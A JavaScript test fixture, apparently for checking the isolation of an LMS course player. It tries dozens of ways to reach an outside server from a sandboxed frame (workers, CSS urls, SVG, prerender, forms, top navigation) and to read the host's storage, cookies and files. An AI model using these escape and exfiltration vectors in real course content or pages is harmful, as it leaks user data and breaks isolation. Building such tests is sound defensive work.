// @ts-nocheck -- It asks for what is not there.
/* More ways out of the frame than courses know, one row each; writes onto the page what it got. */

const parameters = new URLSearchParams(location.search);
/** Another server on this machine, which counts who comes. */
const outside = parameters.get('outside');
const out = (what) => `${outside}/${what}`;
const got = [];

const add = (name, attributes, at = document.body) => {
  const element = Object.assign(document.createElement(name), attributes);
  at.append(element);
  return element;
};
/** Written as HTML, as a parser meets it. */
const html = (text) => add('div', { innerHTML: text });
const style = (rules) => {
  add('style', { textContent: rules });
  add('p', { className: 'styled', textContent: 'Styled' });
};
const framed = (text) => add('iframe', { srcdoc: text });
const code = (what) =>
  `fetch(${JSON.stringify(out(what))}, { mode: 'no-cors' }).catch(() => {});` +
  `try { new WebSocket(${JSON.stringify(out(`${what}-socket`).replace('http', 'ws'))}) } catch {}` +
  `try { importScripts(${JSON.stringify(out(`${what}-script`))}) } catch {}`;
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const data = (text, type) => `data:${type},${encodeURIComponent(text)}`;

/** Something that the other server would see. */
const waysOut = {
  sharedWorker: () => new SharedWorker(blob(code('sharedWorker'))),
  dataWorker: () => new Worker(data(code('dataWorker'), 'text/javascript')),
  dataSharedWorker: () => new SharedWorker(data(code('dataSharedWorker'), 'text/javascript')),
  moduleWorker: () =>
    new Worker(blob(`import ${JSON.stringify(out('moduleWorker'))}`), { type: 'module' }),
  nestedWorker: () =>
    new Worker(
      blob(`new Worker(${JSON.stringify(data(code('nestedWorker'), 'text/javascript'))})`),
    ),
  farWorker: () => new Worker(out('farWorker')),
  farSharedWorker: () => new SharedWorker(out('farSharedWorker')),
  worklet: () => new AudioContext().audioWorklet.addModule(out('worklet')),
  base: () => framed(`<base href="${out('base/')}"><img src="x"><script src="y"></script>`),
  baseHere: () => {
    const base = add('base', { href: out('baseHere/') }, document.head);
    add('img', { src: 'x' });
    base.remove();
  },
  preconnect: () => add('link', { rel: 'preconnect', href: out('preconnect') }, document.head),
  dnsPrefetch: () => add('link', { rel: 'dns-prefetch', href: out('dns') }, document.head),
  prerender: () => add('link', { rel: 'prerender', href: out('prerender') }, document.head),
  prerenderRules: () =>
    add('script', {
      type: 'speculationrules',
      textContent: JSON.stringify({
        prerender: [{ source: 'list', urls: [out('prerenderRules')] }],
      }),
    }),
  manifest: () => add('link', { rel: 'manifest', href: out('manifest') }, document.head),
  stylesheet: () => html(`<link rel="stylesheet" href="${out('stylesheet')}">`),
  importedDeep: () =>
    style(`@import "${data(`@import url(${out('importedDeep')});`, 'text/css')}";`),
  fontFace: () =>
    style(
      `@font-face { font-family: far; src: url(${out('fontFace')}) } .styled { font-family: far }`,
    ),
  cursor: () =>
    style(`.styled { cursor: url(${out('cursor')}), auto; content: url(${out('content')}) }`),
  mask: () =>
    style(
      `.styled { mask: url(${out('mask')}); filter: url(${out('filter')}#x); border-image: url(${out('border')}) }`,
    ),
  listStyle: () => style(`.styled { display: list-item; list-style: url(${out('listStyle')}) }`),
  imageSet: () => style(`.styled::before { content: image-set(url(${out('imageSetRule')}) 1x) }`),
  constructed: () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`.styled { background: url(${out('constructed')}) }`);
    document.adoptedStyleSheets = [sheet];
  },
  svg: () =>
    html(
      `<svg><image href="${out('svgImage')}"/><use href="${out('svgUse')}#x"/><filter id="f"><feImage href="${out('svgFilter')}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    ),
  svgScript: () => html(`<svg><script href="${out('svgScript')}"></script></svg>`),
  picture: () => html(`<picture><source srcset="${out('source')}"><img src="x"></picture>`),
  input: () => html(`<input type="image" src="${out('input')}"><body background="${out('body')}">`),
  track: () =>
    html(
      `<video><source src="${out('videoSource')}"><track default kind="captions" src="${out('track')}"></video>`,
    ),
  frameset: () => framed(`<frameset><frame src="${out('frameset')}"></frameset>`),
  objectData: () =>
    html(`<object data="${out('objectData')}"></object><embed src="${out('embedSrc')}">`),
  refreshed: () => framed(`<meta http-equiv="refresh" content="0; url=${out('refreshed')}">`),
  opened: () =>
    framed(
      `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${out('report')}"><img src="${out('ownPolicy')}">`,
    ),
  unsandboxed: () =>
    html(
      `<iframe sandbox="allow-scripts allow-top-navigation allow-popups allow-downloads" srcdoc="<script>open('${out('unsandboxed')}'); top.location = '${out('unsandboxedTop')}'</script>"></iframe>`,
    ),
  nested: () =>
    framed(`<iframe srcdoc='<iframe srcdoc="<img src=${out('nested')}>"></iframe>'></iframe>`),
  blobFrame: () => add('iframe', { src: blob(`<img src="${out('blobFrame')}">`, 'text/html') }),
  javascriptFrame: () =>
    add('iframe', { src: `javascript:"<img src='${out('javascriptFrame')}'>"` }),
  written: () => {
    const frame = add('iframe', {});
    frame.contentDocument.write(`<script src="${out('written')}"></script>`);
  },
  importMap: () => {
    add('script', {
      type: 'importmap',
      textContent: JSON.stringify({ imports: { far: out('importMap') } }),
    });
    add('script', { type: 'module', textContent: 'import "far"' });
  },
  stylesheetOfXml: () =>
    add('iframe', {
      src: blob(`<?xml-stylesheet type="text/xsl" href="${out('xsl')}"?><x/>`, 'text/xml'),
    }),
  formGet: () => submit({ method: 'get', action: out('formGet') }),
  formDialog: () =>
    html(
      `<iframe name="formAction"></iframe><form method="post" action="./" target="formAction"><button formaction="${out('formAction')}">x</button></form>`,
    )
      .querySelector('button')
      .click(),
  formParent: () => submit({ method: 'post', action: out('formParent'), target: '_parent' }),
  linkParent: () => add('a', { href: out('linkParent'), target: '_parent' }).click(),
  linkNamed: () => add('a', { href: out('linkNamed'), target: 'another' }).click(),
  areaTop: () =>
    html(`<map name="m"><area href="${out('area')}" target="_top"></map>`)
      .querySelector('area')
      .click(),
  openTop: () => open(out('openTop'), '_top'),
  openParent: () => open(out('openParent'), '_parent'),
  navigationTop: () => top.navigation.navigate(out('navigation')),
  // By the page around it, which is on the same host.
  windowAround: () => parent.Function('to', 'open(to)')(out('windowAround')),
  topAround: () => parent.Function('to', 'top.location = to')(out('topAround')),
  frameAround: () => {
    const frame = parent.document.createElement('object');
    frame.data = out('frameAround');
    parent.document.body.append(frame);
  },
  fetchAround: () => parent.fetch(out('fetchAround'), { mode: 'no-cors' }),
  attribution: () => html(`<img attributionsrc="${out('attribution')}" src="x">`),
  payment: () =>
    new PaymentRequest([{ supportedMethods: out('payment') }], {
      total: { label: 'x', amount: { currency: 'AUD', value: '1' } },
    }).canMakePayment(),
  presentation: () => new PresentationRequest([out('presentation')]).getAvailability(),
  later: () => fetchLater(out('later'), { activateAfter: 0 }),
};

function submit(attributes) {
  const form = add('form', attributes);
  if (!attributes.target) form.target = add('iframe', { name: `to-${Math.random()}` }).name;
  form.submit();
}

/** Something that must fail: what it gives, or that it is done at all, is a find. */
const grabs = {
  domain: () => {
    document.domain = 'localhost';
    return top.document.title;
  },
  opener: () => opener.document.title,
  nameOfTheDesk: () => top.name,
  storageOfTheDesk: () => parent.parent.localStorage.length,
  databasesOfTheDesk: () => parent.parent.indexedDB.databases,
  closeTheDesk: () => {
    top.close();
    if (top.closed) return 'closed';
    throw new Error('open');
  },
  wholeStorage: async () => (await document.hasStorageAccess?.call(top.document)) && 'access',
  registrations: () => given('/desk/registrations'),
  packageOfTheDesk: () => given('/desk/package.json'),
  recordsByAnotherName: () => given(`http://localhost:${location.port}/desk/registrations`),
  anotherPackage: () =>
    given(`http://course-0123456789.localhost:${location.port}/package/imsmanifest.xml`),
  emptied: () =>
    given('/lms/wrapper.html?Clear-Site-Data', (answer) => answer.headers.get('clear-site-data')),
  sharedCookie: () => {
    document.cookie = 'shared=1; domain=localhost; path=/';
    document.cookie = 'sharedToo=1; domain=.localhost; path=/; SameSite=None';
    return document.cookie.includes('shared') ? document.cookie : fails();
  },
};

const fails = () => {
  throw new Error('Nothing');
};

async function given(address, what = (answer) => answer.status) {
  const answer = await fetch(address);
  if (!answer.ok) throw new Error(String(answer.status));
  return what(answer) ?? fails();
}

async function escape() {
  parent.API.LMSInitialize('');
  for (const [what, run] of Object.entries(grabs)) {
    try {
      got.push(`${what}: ${String(await run())}`);
    } catch {
      // As it should be.
    }
  }
  for (const run of Object.values(waysOut)) {
    try {
      void Promise.resolve(run()).catch(() => {});
    } catch {
      // As it should be.
    }
  }
  // Fills what it is given.
  try {
    for (let n = 0; n < 20; n += 1) localStorage.setItem(`full-${n}`, 'x'.repeat(1_000_000));
  } catch {
    // Full.
  }
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  document.getElementById('found').textContent = got.length === 0 ? 'Got nothing' : got.join('; ');
}

void escape();
